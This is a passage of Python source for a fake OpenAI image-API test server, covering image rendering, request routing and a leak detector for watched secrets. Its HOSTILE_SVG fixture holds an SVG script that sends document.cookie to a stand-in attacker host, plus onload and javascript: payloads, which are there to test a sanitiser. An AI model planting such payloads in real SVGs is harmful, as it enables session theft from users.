        raise _invalid(f"output_compression is not supported with output_format '{output_format}'.", param("output_compression"))
    partial_images = settings.get("partial_images") or 0
    if partial_images and output_format in ("gif", "svg"):
        raise _invalid(f"Partial images are not supported with output_format '{output_format}'.", param("partial_images"))
    for name in ("frame_count", "frame_duration_ms"):
        if settings.get(name) is not None and output_format != "gif":
            raise _invalid(f"'{name}' requires output_format 'gif'.", param(name))
    svg = settings.get("svg")
    if svg is not None and output_format != "svg":
        raise _invalid("'svg' requires output_format 'svg'.", param("svg"))
    if mask_param is not None and output_format == "gif":
        raise _invalid("GIF output does not support a mask.", mask_param)
    # input_fidelity: "Supports `high` and `low` on `gpt-image-1.5`; `gpt-image-1-mini` supports only `low`. For
    # `gpt-image-2`, omit this parameter." Both models that took it are retired.
    if settings.get("input_fidelity") is not None:
        raise _invalid(f"input_fidelity is not supported with model '{model}'.", param("input_fidelity"), "unsupported_parameter")
    reasoning = (svg or {}).get("reasoning") or {}
    return _ImageSpec(
        width=width,
        height=height,
        output_format=output_format,
        transparent=background == "transparent",
        background="transparent" if background == "transparent" else "opaque",
        # The real API reports the quality it actually used; "auto" resolves to medium here.
        quality="medium" if quality == "auto" else quality,
        compression=100 if compression is None else compression,
        partial_images=partial_images,
        action=settings.get("action") or "auto",
        model=model,
        frame_count=settings.get("frame_count") or DEFAULT_GIF_FRAMES,
        frame_ms=DEFAULT_GIF_FRAME_MS if settings.get("frame_duration_ms") is None else settings["frame_duration_ms"],
        svg_author=((svg or {}).get("model") or svg_author) if output_format == "svg" else None,
        svg_effort=reasoning.get("effort"),
    )


@dataclass
class _Plan:
    """A validated POST /v1/responses request."""

    body: dict[str, Any]
    model: str
    prompt: str
    input_images: list[Image.Image]
    tools: list[Any]
    spec: _ImageSpec | None
    stream: bool
    store: bool
    previous: dict[str, Any] | None
    background: bool = False
    completion_window: str = "soonest"


@dataclass
class _ImagesPlan:
    """A checked Images API request (POST /v1/images/generations or /v1/images/edits)."""

    edit: bool
    prompt: str
    spec: _ImageSpec
    n: int
    stream: bool
    inputs: list[Image.Image]
    safety_identifier: str | None  # the effective one: "the non-empty `safety_identifier` ... or the deprecated `user`"


class _Job:
    """One background response: every SSE frame it has emitted so far and its current state.

    Fields are read and written only under ``FakeOpenAI._changed``; ``frames[n]`` is the event with
    ``sequence_number`` n, already encoded, so every stream of the job sends the same bytes.
    """

    def __init__(self, response: dict[str, Any], plan: _Plan, outcome: _Outcome | None) -> None:
        self.id: str = response["id"]
        self.created_at: int = response["created_at"]
        self.plan = plan
        self.outcome = outcome
        self.response = response  # the current snapshot, replaced (never mutated) on every change
        self.frames: list[bytes] = []
        self.types: list[str] = []
        self.forgotten = False
        self.forget_at: float | None = None  # time.monotonic() at which a "forgotten" outcome strikes
        self.thread: threading.Thread | None = None

    @property
    def status(self) -> str:
        return str(self.response["status"])

    @property
    def over(self) -> bool:
        """Nothing more will happen to it: finished, or forgotten."""
        return self.forgotten or self.status in _FINISHED


# --------------------------------------------------------------------------- images


def _colour(digest: bytes, offset: int) -> tuple[int, int, int]:
    r, g, b = digest[offset : offset + 3]
    return r, g, b


def render_image(
    prompt: str,
    width: int,
    height: int,
    output_format: str = "png",
    *,
    transparent: bool = False,
    compression: int = 100,
    detail: int = 3,
    inset: Image.Image | None = None,
) -> bytes:
    """Encode a simple picture whose colours depend on the prompt.

    ``detail`` is the number of shapes drawn (partial images draw fewer); ``inset`` is pasted
    in a corner so edits visibly contain their input image.
    """
    digest = hashlib.sha256(prompt.encode("utf-8")).digest()
    background = _colour(digest, 0)
    mode = "RGBA" if transparent else "RGB"
    image = Image.new(mode, (width, height), (0, 0, 0, 0) if transparent else background)
    draw = ImageDraw.Draw(image)
    fills = [_colour(digest, 3 + 3 * index) + ((255,) if transparent else ()) for index in range(3)]
    if detail >= 1:
        draw.ellipse((width * 0.2, height * 0.2, width * 0.8, height * 0.8), fill=fills[0])
    if detail >= 2:
        draw.rectangle((width * 0.05, height * 0.05, width * 0.35, height * 0.3), fill=fills[1])
    if detail >= 3:
        draw.polygon([(width * 0.5, height * 0.55), (width * 0.95, height * 0.95), (width * 0.55, height * 0.95)], fill=fills[2])
    if inset is not None:
        thumb = inset.convert(mode)
        thumb.thumbnail((max(1, width // 3), max(1, height // 3)))
        image.paste(thumb, (width - thumb.width, height - thumb.height))
    # compress_level=1 keeps 3840x2160 encodes fast.
    return _encode(image, output_format, compression, png_level=1)


def _encode(image: Image.Image, output_format: str, compression: int, *, png_level: int) -> bytes:
    buffer = io.BytesIO()
    if output_format == "png":
        image.save(buffer, "PNG", compress_level=png_level)
    elif output_format == "webp":
        if compression >= 100:
            # Lossless with minimal effort is both exact and several times faster than lossy q=100.
            image.save(buffer, "WEBP", lossless=True, quality=0, method=0)
        else:
            image.save(buffer, "WEBP", quality=compression, method=0)
    else:
        image.save(buffer, "JPEG", quality=compression)
    return buffer.getvalue()


# What ``FakeOpenAI.hostile_svg`` plants in every SVG result: each is something an SVG sanitiser must take out
# before the picture is shown in a browser (a script, an event handler, and links that fetch from elsewhere or
# run code). Each keeps the document well-formed XML, so only a sanitiser, not a parser, stops it.
HOSTILE_SVG = {
    "script": "<script>fetch('https://attacker.example/steal?c=' + document.cookie)</script>",
    "onload": 'onload="alert(document.domain)"',
    "external_href": '<image href="https://attacker.example/tracker.png" x="0" y="0" width="1" height="1"/>',
    "external_xlink_href": '<use xlink:href="https://attacker.example/sprite.svg#icon"/>',
    "javascript_href": '<a href="javascript:alert(1)"><text x="8" y="24">open</text></a>',
}


def render_svg(prompt: str, width: int, height: int, *, hostile: bool = False) -> bytes:
    """A small SVG document (UTF-8) whose colours depend on the prompt, as an ``output_format`` "svg" result.

    ``hostile`` plants every ``HOSTILE_SVG`` part in it.
    """
    digest = hashlib.sha256(prompt.encode("utf-8")).digest()
    fills = ["#{:02x}{:02x}{:02x}".format(*_colour(digest, 3 * index)) for index in range(4)]
    onload = " " + HOSTILE_SVG["onload"] if hostile else ""
    w, h = width, height
    lines = [
        '<?xml version="1.0" encoding="UTF-8"?>',
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="{w}" height="{h}" viewBox="0 0 {w} {h}"{onload}>',
        f"<title>{escape(prompt[:200])}</title>",
        f'<rect width="{w}" height="{h}" fill="{fills[0]}"/>',
        f'<circle cx="{w / 2:g}" cy="{h / 2:g}" r="{min(w, h) * 0.3:g}" fill="{fills[1]}"/>',
        f'<rect x="{w * 0.05:g}" y="{h * 0.05:g}" width="{w * 0.3:g}" height="{h * 0.25:g}" fill="{fills[2]}"/>',
        f'<polygon points="{w * 0.5:g},{h * 0.55:g} {w * 0.95:g},{h * 0.95:g} {w * 0.55:g},{h * 0.95:g}" fill="{fills[3]}"/>',
    ]
    if hostile:
        lines += [HOSTILE_SVG[name] for name in ("script", "external_href", "external_xlink_href", "javascript_href")]
    lines.append("</svg>")
    return "\n".join(lines).encode("utf-8")


def render_gif(prompt: str, width: int, height: int, *, frames: int = DEFAULT_GIF_FRAMES, frame_ms: int = DEFAULT_GIF_FRAME_MS) -> bytes:
    """An animated GIF of ``frames`` frames, a disc crossing a prompt-coloured field, ``frame_ms`` per frame.

    The delay is rounded to 10 ms and capped at 655,350 ms, as the Images API documents it; every frame differs,
    so no encoder merges two of them.
    """
    digest = hashlib.sha256(prompt.encode("utf-8")).digest()
    background, fill = _colour(digest, 0), _colour(digest, 3)
    if fill == background:
        fill = tuple(255 - channel for channel in background)  # type: ignore[assignment]
    radius = max(1.0, min(width, height) * 0.12)
    pictures = []
    for index in range(frames):
        # Drawn straight in palette mode (index 0 the field, 1 the disc): no colour quantising per frame.
        picture = Image.new("P", (width, height), 0)
        picture.putpalette([*background, *fill])
        x = radius + (width - 2 * radius) * index / max(1, frames - 1)
        ImageDraw.Draw(picture).ellipse((x - radius, height / 2 - radius, x + radius, height / 2 + radius), fill=1)
        pictures.append(picture)
    delay = min(MAX_GIF_FRAME_MS, round(frame_ms / 10) * 10)
    buffer = io.BytesIO()
    pictures[0].save(buffer, "GIF", save_all=True, append_images=pictures[1:], duration=delay, loop=0)
    return buffer.getvalue()


# Grain share of a photo-like picture: 0.04 of uniform noise gives about 1.6 MB as PNG at 1024x1024, in the
# 1.5-2 MB that OpenAI's own 1024x1024 PNGs weigh.
_PHOTO_GRAIN = 0.04
_photos: dict[tuple[int, int, str, bool, int], bytes] = {}
_photos_lock = threading.Lock()


def render_photo(width: int, height: int, output_format: str = "png", *, transparent: bool = False, compression: int = 100) -> bytes:
    """Encode a photo-like picture: grain over smooth random shapes, the same for every prompt.

    The bytes are cached per size, format, transparency and compression, so only the first request of a kind pays
    for the encoding (about 0.3 s at 1024x1024, 2 s at 3840x2160); later ones cost what a flat image does.
    """
    key = (width, height, output_format, transparent, compression)
    with _photos_lock:  # held while encoding, so renders that start together encode it once
        if key not in _photos:
            # Pillow's default zlib level for PNG, as photo PNGs usually are.
            photo = _photo(width, height, transparent=transparent)
            _photos[key] = _encode(photo, output_format, compression, png_level=6)
        return _photos[key]


def _photo(width: int, height: int, *, transparent: bool) -> Image.Image:
    rng = random.Random(f"photo {width}x{height}")
    # Colour gradients (an 8x8 grid of random colours, upscaled), then blurred shapes, then per-pixel grain:
    # the grain is what makes it weigh what a photo weighs, since PNG and JPEG cannot compress noise away.
    gradient = Image.frombytes("RGB", (8, 8), rng.randbytes(8 * 8 * 3)).resize((width, height), Image.Resampling.BICUBIC)
    shapes = gradient.copy()
    draw = ImageDraw.Draw(shapes)
    for _ in range(24):
        left, top = rng.uniform(-0.2, 1.0) * width, rng.uniform(-0.2, 1.0) * height
        right, bottom = left + rng.uniform(0.05, 0.4) * width, top + rng.uniform(0.05, 0.4) * height
        draw.ellipse((left, top, right, bottom), fill=tuple(rng.randbytes(3)))
    shapes = Image.blend(gradient, shapes.filter(ImageFilter.GaussianBlur(max(width, height) / 100)), 0.6)
    grain = Image.frombytes("RGB", (width, height), rng.randbytes(width * height * 3))
    photo = Image.blend(shapes, grain, _PHOTO_GRAIN)
    if transparent:
        # A cut-out: opaque inside a soft-edged ellipse, fully transparent in the corners.
        mask = Image.new("L", (width, height), 0)
        ImageDraw.Draw(mask).ellipse((width * 0.1, height * 0.1, width * 0.9, height * 0.9), fill=255)
        photo.putalpha(mask.filter(ImageFilter.GaussianBlur(max(width, height) / 50)))
    return photo


def _decode_image(data: bytes, param: str) -> Image.Image:
    try:
        image = Image.open(io.BytesIO(data))
        image.load()
    except Exception as exc:
        raise _invalid(f"Invalid image: {exc}", param, "invalid_image") from None
    return image


def _image_tokens(quality: str, width: int, height: int) -> int:
    # The community gpt-image-2 formula (as in costs.estimate_output_tokens), kept separate so
    # the fake reports usage the way OpenAI would rather than echoing our estimator; the
    # xhigh/max factors are made up (no formula is published), good enough for a fake.
    factor = {"low": 16, "medium": 48, "high": 96, "xhigh": 128, "max": 160}.get(quality, 48)
    long_edge, short_edge = max(width, height), min(width, height)
    aspect = (2 * factor * short_edge + long_edge) // (2 * long_edge)
    return math.ceil(factor * aspect * (2_000_000 + width * height) / 4_000_000)


def _spec_tokens(spec: _ImageSpec) -> int:
    """Image output tokens for one final image of ``spec``: a GIF pays for each of its frames."""
    frames = spec.frame_count if spec.output_format == "gif" else 1
    return frames * _image_tokens(spec.quality, spec.width, spec.height)


def _partial_image(prompt: str, spec: _ImageSpec, number: int) -> bytes:
    """Partial image ``number`` (from 0) of ``spec``: a rougher picture, at most _PARTIAL_MAX_EDGE on its longer side."""
    scale = min(1.0, _PARTIAL_MAX_EDGE / max(spec.width, spec.height))
    return render_image(
        prompt,
        max(1, round(spec.width * scale)),
        max(1, round(spec.height * scale)),
        spec.output_format,
        transparent=spec.transparent,
        compression=spec.compression,
        detail=number + 1,
    )


def _svg_usage(spec: _ImageSpec, prompt: str) -> dict[str, Any]:
    """``svg_usage`` of an SVG result (types/images_response.py SvgUsage; ImageGenerationCallSvgUsage in Responses)."""
    reasoning = 0 if spec.svg_effort == "none" else 64
    input_tokens, output_tokens = 40 + len(prompt) // 4, 400 + reasoning
    return {
        "input_tokens": input_tokens,
        "model": spec.svg_author,
        "output_tokens": output_tokens,
        "reasoning_tokens": reasoning,
        "total_tokens": input_tokens + output_tokens,
    }


def _new_id(prefix: str) -> str:
    return prefix + secrets.token_hex(24)


# --------------------------------------------------------------------------- secret watch

# JSON strings this long that are valid base64 are decoded and searched (image data, file_data, results, ...).
_MIN_BASE64_STRING = 64
# Header words this long that are valid base64 are decoded too (Basic and Proxy credentials, JWT segments).
_MIN_BASE64_HEADER_WORD = 8
# Decoding layers followed inside one request (a data URL in a JSON file in a multipart part is three).
_MAX_NESTING = 4
_BASE64_RE = re.compile(r"[A-Za-z0-9+/_-]+={0,2}")
_EMBEDDED_DATA_URL_RE = re.compile(r"data:[^,\s\"']{0,200}?;base64,([A-Za-z0-9+/_-]+=*)", re.IGNORECASE)
_HEADER_WORD_RE = re.compile(rb"[A-Za-z0-9+/_-]{%d,}={0,2}" % _MIN_BASE64_HEADER_WORD)
_BOUNDARY_RE = re.compile(r'boundary=(?:"([^"]+)"|([^;\s]+))', re.IGNORECASE)
_IDENTIFIER_RE = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
_JSON_START_RE = re.compile(rb"\s*[\[{]")
_URL_SAFE = str.maketrans("-_", "+/")


def _mask(secret: str | bytes) -> str:
    """A secret as leak reports show it: at most its first 4 characters (never more than half), and its length."""
    shown = secret[: min(4, len(secret) // 2)]
    unit = "characters" if isinstance(secret, str) else "bytes"
    return f"{shown!r}… ({len(secret)} {unit})"


def _redact(text: str, watched: list[tuple[str | bytes, bytes]]) -> str:
    """``text`` (a leak's method, path or place) with every watched value in it replaced by its masked form."""
    # Percent-encoded paths are decoded only when that is what hides a secret.
    for candidate in (text, unquote(text, errors="replace")):
        for secret, needle in watched:
            forms = {needle.decode("latin-1"), needle.decode("utf-8", "replace")}
            if isinstance(secret, str):
                forms |= {secret, json.dumps(secret)[1:-1]}
            for form in forms:
                candidate = candidate.replace(form, f"<{_mask(secret)}>")
        views = [candidate.encode("utf-8", "surrogatepass"), candidate.encode("latin-1", "replace")]
        if not any(needle in view for _, needle in watched for view in [*views, unquote_to_bytes(candidate)]):
            return candidate
    return "<hidden: it holds a watched value>"


@dataclass(frozen=True, kw_only=True, repr=False)
class Leak:
    """A watched secret found in a request the fake received.

    ``where`` names the place: ``"path"``, ``"query"``, ``"request line"``, ``"header <name>"``,
    ``"header <name> (base64)"``, ``"body"``, ``"JSON string at <json path>"`` and ``"JSON key at <json path>"``
    (only when JSON escaping hid it from the raw body), ``"data URL at <json path>"``,
    ``"base64 at <json path>"``, ``"multipart part <name>"``, or ``"raw request"`` (the bytes as read, when no
    place above holds it). Places inside a decoded payload are chained with ``" > "``, e.g.
    ``"multipart part file > data URL at input[0].image_url"``. One request can leak one secret in several places.
    A watched value inside ``method``, ``path`` or ``where`` (a secret sent as the path or a header name) is
    replaced there by its masked form, ``<'sk-l'… (26 characters)>``, so no field but ``secret`` holds one.
    """

    secret: str | bytes  # as given to FakeOpenAI.watch
    method: str
    path: str  # URL path without the query string
    where: str

    def __str__(self) -> str:
        return f"{_mask(self.secret)} in {self.where} of {self.method} {self.path}"

    def __repr__(self) -> str:
        # The default repr would print the secret into test failure output.
        return f"Leak(secret={_mask(self.secret)}, method={self.method!r}, path={self.path!r}, where={self.where!r})"


def _b64decode_loose(text: str) -> bytes | None:
    """Decode standard or URL-safe base64, with or without padding or line breaks; None when it is not base64."""
    compact = "".join(text.split())
    if not _BASE64_RE.fullmatch(compact):
        return None
    compact = compact.rstrip("=").translate(_URL_SAFE)
    if len(compact) % 4 == 1:
        return None
    try:
        return base64.b64decode(compact + "=" * (-len(compact) % 4), validate=True)
    except binascii.Error:
        return None


def _content_decoded(body: bytes, encoding: str) -> bytes:
    """The body with a gzip or deflate Content-Encoding undone (unchanged when it is neither or does not inflate)."""
    try:
        if encoding in ("gzip", "x-gzip"):
            return gzip.decompress(body)
        if encoding == "deflate":
            try:
                return zlib.decompress(body)
            except zlib.error:
                return zlib.decompress(body, -zlib.MAX_WBITS)  # raw deflate, as some clients send it
    except (OSError, EOFError, zlib.error):
        pass
    return body


def _multipart_parts(body: bytes, content_type: str) -> Iterator[tuple[str, bytes, bytes]]:
    """(name, raw bytes with its headers, decoded payload) of each part of a multipart body."""
    match = _BOUNDARY_RE.search(content_type)
    if match is None:
        return
    boundary = (match.group(1) or match.group(2)).encode("latin-1", "replace")
    for index, segment in enumerate(body.split(b"--" + boundary)[1:]):
        if segment.startswith(b"--"):
            return  # the close delimiter; what follows is the epilogue
        part = segment.removeprefix(b"\r\n").removeprefix(b"\n").removesuffix(b"\n").removesuffix(b"\r")
        head, separator, payload = part.partition(b"\r\n\r\n")
        if not separator:
            head, separator, payload = part.partition(b"\n\n")
        headers = email.parser.BytesHeaderParser(policy=email.policy.HTTP).parsebytes(head + b"\r\n\r\n")
        name = headers.get_param("name", header="content-disposition")
        transfer = str(headers.get("content-transfer-encoding", "")).strip().lower()
        if transfer == "base64":
            payload = _b64decode_loose(payload.decode("ascii", "replace")) or payload
        elif transfer == "quoted-printable":
            payload = quopri.decodestring(payload)
        yield (name if isinstance(name, str) and name else f"#{index}"), part, payload


def _json_path(parent: str, key: str | int) -> str:
    if isinstance(key, int):
        return f"{parent}[{key}]"
    if _IDENTIFIER_RE.fullmatch(key):
        return f"{parent}.{key}" if parent else key
    return f"{parent}[{json.dumps(key)}]"


class _Search:
    """One request's search for the watched secrets: which secret turned up where."""

    def __init__(self, watched: list[tuple[str | bytes, bytes]]) -> None:
        self.secrets = watched  # (as given, as bytes)
        self.hits: dict[tuple[int, str], None] = {}  # (secret index, where), in the order found, no repeats

    def look(self, data: bytes, where: str, *, skip: set[int] | frozenset[int] = frozenset()) -> None:
        for index, (_, needle) in enumerate(self.secrets):
            if index not in skip and needle in data:
                self.hits.setdefault((index, where), None)

    def found(self, *wheres: str) -> set[int]:
        """The secrets already found at any of ``wheres``, or anywhere when none are named."""
        return {index for index, where in self.hits if not wheres or where in wheres}

    def leaks(self) -> list[tuple[str | bytes, str]]:
        return [(self.secrets[index][0], where) for index, where in self.hits]

    def payload(self, data: bytes, where: str, depth: int) -> None:
        """Search decoded bytes, then every string of the JSON document they hold, if they hold one."""
        self.look(data, where)
        if depth >= _MAX_NESTING or not _JSON_START_RE.match(data):
            return
        try:
            document = json.loads(data)
        except (ValueError, RecursionError):
            return
        self.json(document, prefix="" if where == "body" else f"{where} > ", depth=depth, skip=self.found(where))

    def json(self, document: Any, *, prefix: str, depth: int, skip: set[int]) -> None:
        # `skip`: secrets the raw bytes already showed; JSON strings only add the ones escaping hid (\u00e9, \/).
        stack: list[tuple[str, Any]] = [("", document)]
        while stack:
            path, value = stack.pop()
            if isinstance(value, dict):
                for key, child in value.items():
                    child_path = _json_path(path, key)
                    self.look(key.encode("utf-8", "surrogatepass"), f"{prefix}JSON key at {child_path}", skip=skip)
                    stack.append((child_path, child))
            elif isinstance(value, list):
                stack.extend((_json_path(path, index), child) for index, child in enumerate(value))
            elif isinstance(value, str):
                self.string(value, f"{path or 'the top level'}", prefix=prefix, depth=depth, skip=skip)

    def string(self, text: str, path: str, *, prefix: str, depth: int, skip: set[int]) -> None:
        plain = f"{prefix}JSON string at {path}"
        self.look(text.encode("utf-8", "surrogatepass"), plain, skip=skip)
        if "%" in text:
            self.look(unquote_to_bytes(text), plain, skip=skip)
        data_url = _DATA_URL_RE.match(text) if text.startswith("data:") else None
        if data_url is not None:
            data = data_url.group(3)
            # Base64 payloads may be line-wrapped or percent-encoded; others are percent-encoded bytes.
            decoded = _b64decode_loose(unquote(data)) if data_url.group(2) else unquote_to_bytes(data)
            if decoded is not None:
                self.payload(decoded, f"{prefix}data URL at {path}", depth + 1)
            return
        for match in _EMBEDDED_DATA_URL_RE.finditer(text):  # data URLs inside longer text (markdown, HTML)
            decoded = _b64decode_loose(match.group(1))
            if decoded is not None:
                self.payload(decoded, f"{prefix}data URL at {path}", depth + 1)
        if len(text) >= _MIN_BASE64_STRING:
            decoded = _b64decode_loose(text)
            if decoded is not None:
                self.payload(decoded, f"{prefix}base64 at {path}", depth + 1)


def _find_leaks(watched: list[tuple[str | bytes, bytes]], raw: bytes, body: bytes | None) -> tuple[str, str, list[tuple[str | bytes, str]]]:
    """Search one request for the watched secrets; return its method, its path and every (secret, where) found.

    ``raw`` is every byte read for the request: request line, headers and the body as framed on the wire.
    ``body`` is the body with chunked framing removed, or None when it was never read (a refused request):
    then whatever follows the headers in ``raw`` stands in for it.
    """
    search = _Search(watched)
    ends = [(end, len(blank)) for blank in (b"\r\n\r\n", b"\n\n") if (end := raw.find(blank)) >= 0]
    end, blank = min(ends) if ends else (len(raw), 0)
    head, rest = raw[:end], raw[end + blank :]
    lines = head.split(b"\n")
    request_line = lines[0].rstrip(b"\r")
    words = request_line.split()
    url = urlsplit(words[1] if len(words) > 1 else b"")
    search.look(url.path, "path")
    search.look(unquote_to_bytes(url.path), "path")
    search.look(url.query, "query")
    search.look(unquote_to_bytes(url.query.replace(b"+", b" ")), "query")
    search.look(request_line, "request line", skip=search.found("path", "query"))

    fields: dict[str, str] = {}
    for line in lines[1:]:
        line = line.rstrip(b"\r")
        name, colon, value = line.partition(b":")
        if not colon or line[:1] in (b" ", b"\t"):
            continue  # folded or broken lines are left to the "raw request" search
        label = name.strip().lower().decode("latin-1")
        search.look(line, f"header {label}")
        for word in _HEADER_WORD_RE.findall(value):
            decoded = _b64decode_loose(word.decode("ascii"))
            if decoded is not None:
                search.look(decoded, f"header {label} (base64)")
        fields[label] = value.strip().decode("latin-1")

    body = rest if body is None else body
    if body:
        content_type = fields.get("content-type", "")
        decoded = _content_decoded(body, fields.get("content-encoding", "").strip().lower())
        if decoded is not body:
            search.look(body, "body")
        if "x-www-form-urlencoded" in content_type.lower():
            search.look(unquote_to_bytes(decoded.replace(b"+", b" ")), "body")
        if content_type.lower().startswith("multipart/"):
            search.look(decoded, "body")
            for name, part, payload in _multipart_parts(decoded, content_type):
                search.look(part, f"multipart part {name}")
                search.payload(payload, f"multipart part {name}", 1)
        else:
            search.payload(decoded, "body", 0)
    search.look(raw, "raw request", skip=search.found())
    method = words[0].decode("latin-1") if words else ""
    return method, url.path.decode("latin-1"), search.leaks()


class _TeeReader:
    """The connection's reader, keeping a copy of every byte the current request has read so far.

    It always records: whether anything is watched is only known once the request has arrived, and
    watch() may be called while a kept-alive connection waits for its next request.
    """

    def __init__(self, reader: Any) -> None:
        self._reader = reader
        self.seen = bytearray()

    def read(self, size: int | None = -1) -> bytes:
        data = self._reader.read(size)
        self.seen += data
        return data

    def readline(self, size: int | None = -1) -> bytes:
        data = self._reader.readline(size)
        self.seen += data
        return data

    def __getattr__(self, name: str) -> Any:
        return getattr(self._reader, name)


# --------------------------------------------------------------------------- server


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    # Tests open many connections at once; the default backlog of 5 can drop SYNs (1 s retry).
    request_queue_size = 128

    def __init__(self, address: tuple[str, int], fake: FakeOpenAI) -> None:
        self.fake = fake
        self.open_sockets: set[socket.socket] = set()
        self.sockets_lock = threading.Lock()
        super().__init__(address, _Handler)

    def server_bind(self) -> None:
        # HTTPServer.server_bind calls socket.getfqdn(), which can stall on reverse DNS.
        socketserver.TCPServer.server_bind(self)
        host, port = self.server_address[:2]
        self.server_name = str(host)
        self.server_port = int(port)

    def process_request(self, request: Any, client_address: Any) -> None:
        with self.sockets_lock:
            self.open_sockets.add(request)
        super().process_request(request, client_address)

    def shutdown_request(self, request: Any) -> None:
        with self.sockets_lock:
            self.open_sockets.discard(request)
        super().shutdown_request(request)

    def handle_error(self, request: Any, client_address: Any) -> None:
        # Clients hanging up (timeouts, cancelled streams) are expected in tests, not errors.
        if not isinstance(sys.exc_info()[1], OSError):
            super().handle_error(request, client_address)

    def close_open_sockets(self) -> None:
        with self.sockets_lock:
            sockets = list(self.open_sockets)
        for sock in sockets:
            with contextlib.suppress(OSError):
                sock.shutdown(socket.SHUT_RDWR)


class _CloseConnection(Exception):
    """Drop the connection without (finishing) an answer."""


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    # Headers and body go out in separate writes; Nagle + delayed ACK would add ~40 ms each.
    disable_nagle_algorithm = True
    server: _Server
    answered = False  # whether a status line went out for the current request
    watched = False  # whether the current request was searched for watched secrets

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def setup(self) -> None:
        super().setup()
        self.tee = _TeeReader(self.rfile)
        self.rfile = self.tee  # type: ignore[assignment]

    def handle_one_request(self) -> None:
        self.tee.seen.clear()
        self.watched = False
        super().handle_one_request()

    def send_error(self, code: int, message: str | None = None, explain: str | None = None) -> None:
        # http.server calls this for requests it refuses before any do_* method runs: a malformed or
        # oversized request line, oversized headers, an unknown method. Our own answers use _send_error.
        if not self.watched:
            body = self._read_refused_body() if code == HTTPStatus.NOT_IMPLEMENTED else None
            self._watch(body)
        super().send_error(code, message, explain)

    def do_GET(self) -> None:
        self._dispatch()

    do_POST = do_DELETE = do_PUT = do_PATCH = do_GET

    # ---- plumbing

    @property
    def fake(self) -> FakeOpenAI:
        return self.server.fake

    def _read_body(self) -> bytes:
        if "chunked" in self.headers.get("Transfer-Encoding", "").lower():
            chunks: list[bytes] = []
            while True:
                size = int(self.rfile.readline().split(b";")[0].strip() or b"0", 16)
                if size == 0:
                    while self.rfile.readline() not in (b"\r\n", b"\n", b""):
                        pass
                    return b"".join(chunks)
                chunks.append(self.rfile.read(size))
                self.rfile.readline()
        length = int(self.headers.get("Content-Length") or 0)
        return self.rfile.read(length) if length else b""

    def _read_refused_body(self) -> bytes | None:
        """The body of a request refused for its method (its headers parsed), so that it is searched too."""
        if not self.fake._watching():
            return None
        try:
            if int(self.headers.get("Content-Length") or 0) > 64 * 1024 * 1024:
                return None
            return self._read_body()
        except (ValueError, OSError):
            return None

    def _watch(self, body: bytes | None) -> None:
        """Search the current request for watched secrets, before anything is answered."""
        self.watched = True
        self.fake._watch_request(self.tee.seen, body)

    def _dispatch(self) -> None:
        try:
            try:
                body = self._read_body()
            except (ValueError, OSError):
                self._watch(None)  # what did arrive still counts
                raise
            self._watch(body)
            url = urlsplit(self.path)
            headers: dict[str, str] = {}
            for key, value in self.headers.items():
                key = key.lower()
                headers[key] = f"{headers[key]}, {value}" if key in headers else value
            parsed: dict[str, Any] | None = None
            if "json" in headers.get("content-type", "") and body:
                try:
                    loaded = json.loads(body)
                    parsed = loaded if isinstance(loaded, dict) else None
                except ValueError:
                    parsed = None
            request = RecordedRequest(self.command, url.path, headers, body, parsed, url.query)
            self.fake._record(request)
            self.answered = False
            try:
                self._route(request)
            except ApiError as error:
                self._send_error(error)
            except (OSError, _CloseConnection):
                raise
            except Exception as exc:
                # A bug in the fake: show it in the test output and as a non-retried 500.
                traceback.print_exc()
                if self.answered:
                    raise _CloseConnection from exc
                bug = ApiError(500, f"fake_openai bug: {exc!r}", code="fake_bug", headers={"x-should-retry": "false"})
                self._send_error(bug)
        except _CloseConnection:
            self.close_connection = True
        except (BrokenPipeError, ConnectionResetError, ConnectionAbortedError, TimeoutError):
            self.close_connection = True

    def _route(self, request: RecordedRequest) -> None:
        method, path = request.method, request.path.rstrip("/") or "/"
        response_match = _RESPONSE_PATH_RE.match(path)
        cancel_match = _CANCEL_PATH_RE.match(path)
        items_match = _INPUT_ITEMS_PATH_RE.match(path)
        file_match = _FILE_PATH_RE.match(path)
        if path == "/v1/responses" and method == "POST":
            route: Callable[[], None] = partial(self._post_responses, request)
        elif path in ("/v1/images/generations", "/v1/images/edits") and method == "POST":
            route = partial(self._post_images, request, edit=path.endswith("edits"))
        elif path == "/v1/files" and method == "POST":
            route = partial(self._post_file, request)
        elif path == "/v1/models" and method == "GET":
            route = self._list_models
        elif response_match and method in ("GET", "DELETE"):
            response_id = unquote(response_match.group(1))
            route = partial(self._response_by_id, response_id, delete=method == "DELETE", query=request.query)
        elif cancel_match and method == "POST":
            route = partial(self._cancel, unquote(cancel_match.group(1)), request)
        elif items_match and method == "GET":
            route = partial(self._input_items, unquote(items_match.group(1)), request.query)
        elif file_match and method == "GET":
            route = partial(self._file_by_id, unquote(file_match.group(1)), content=bool(file_match.group(2)))
        else:
            raise ApiError(404, f"Invalid URL ({method} {request.path})")
        if not _BEARER_RE.match(request.headers.get("authorization", "")):
            raise ApiError(
                401,
                "You didn't provide an API key. You need to provide your API key in an Authorization header "
                "using Bearer auth (i.e. Authorization: Bearer YOUR_KEY).",
                code="invalid_api_key",
            )
        route()

    def _list_models(self) -> None:
        # GET /v1/models is free: `openai-images-mcp doctor` uses it to check the endpoint and the key.
        models = [{"id": DEFAULT_IMAGE_MODEL, "object": "model", "created": 0, "owned_by": "openai"}]
        self._send_json(200, {"object": "list", "data": models})

    def _post_file(self, request: RecordedRequest) -> None:
        self._send_json(200, self.fake._upload_file(request))

    def _response_by_id(self, response_id: str, *, delete: bool, query: str = "") -> None:
        # The SDK sends retrieve(stream=True, starting_after=N) as `?stream=true&starting_after=N`
        # (resources/responses/responses.py, Responses.retrieve); delete takes no parameters.
        params = _query_body(query, {} if delete else RETRIEVE_FIELDS)
        if params.get("stream") is True:
            job = self.fake._job(response_id)
            if job is None:
                if self.fake._get_response(response_id) is None:
                    raise _not_found(response_id)
                raise _invalid(
                    "Only responses created with background set to true can be streamed after they were created.",
                    "stream",
                )
            self._follow(job, after=params.get("starting_after", -1), drop=self.fake._pop_drop())
            return
        stored = self.fake._get_response(response_id, delete=delete)
        if stored is None:
            raise _not_found(response_id)
        if delete:
            self._send_json(200, {"id": response_id, "object": "response.deleted", "deleted": True})
        else:
            self._send_json(200, stored)

